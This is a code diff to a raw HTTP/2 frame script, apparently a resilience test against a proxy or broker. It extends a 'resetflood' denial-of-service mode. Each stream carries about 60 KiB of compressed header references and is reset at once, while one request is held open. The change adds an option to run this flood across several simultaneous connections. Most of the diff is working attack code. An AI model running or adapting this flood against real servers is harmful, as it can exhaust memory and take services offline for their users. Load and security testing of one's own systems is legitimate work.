@@ -7,7 +7,7 @@ thousand times, repeated fields).
     python3 h2raw.py MODE HOST [ARGS]
 
 MODE:
-  resetflood N        one GET /hang (left open: the upstream never answers
+  resetflood N [C]    (on each of C connections, default 1) one GET /hang (left open: the upstream never answers
                       it), then N streams, each HEADERS with ~60 KiB of
                       header list made of references to one dynamic-table
                       entry (a few bytes on the wire) and at once
@@ -84,7 +84,26 @@ def connect(host):
     return c
 
 
-def resetflood(host, n):
+def resetflood(host, n, conns=1):
+    held = [flood_one(host, n) for _ in range(conns)]
+    print("sent", n * conns, flush=True)
+    for c in held:
+        c.setblocking(False)
+    while held:  # read (and drop) what the broker says, until killed
+        for c in list(held):
+            try:
+                if not c.recv(65536):
+                    held.remove(c)
+            except (ssl.SSLWantReadError, BlockingIOError):
+                pass
+            except OSError:
+                held.remove(c)
+        time.sleep(0.05)
+    print("closed", flush=True)
+    time.sleep(600)
+
+
+def flood_one(host, n):
     c = connect(host)
     c.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_head(host, path="/hang")))
     pad = "p" * 3900
@@ -100,18 +119,7 @@ def resetflood(host, n):
         c.sendall(frame(HEADERS, END_HEADERS | END_STREAM, sid, block) +
                   frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
         sid += 2
-    print("sent", n, flush=True)
-    c.setblocking(False)
-    while True:  # read (and drop) what the broker says, until killed
-        try:
-            if not c.recv(65536):
-                break
-        except (ssl.SSLWantReadError, BlockingIOError):
-            time.sleep(0.05)
-        except OSError:
-            break
-    print("closed", flush=True)
-    time.sleep(600)
+    return c
 
 
 def read_frame(c, buf):
@@ -159,7 +167,7 @@ def request(host, path, fields):
 def main():
     mode, host = sys.argv[1], sys.argv[2]
     if mode == "resetflood":
-        resetflood(host, int(sys.argv[3]))
+        resetflood(host, int(sys.argv[3]), int(sys.argv[4]) if len(sys.argv) > 4 else 1)
     elif mode == "request":
         request(host, sys.argv[3], sys.argv[4:])
     else:
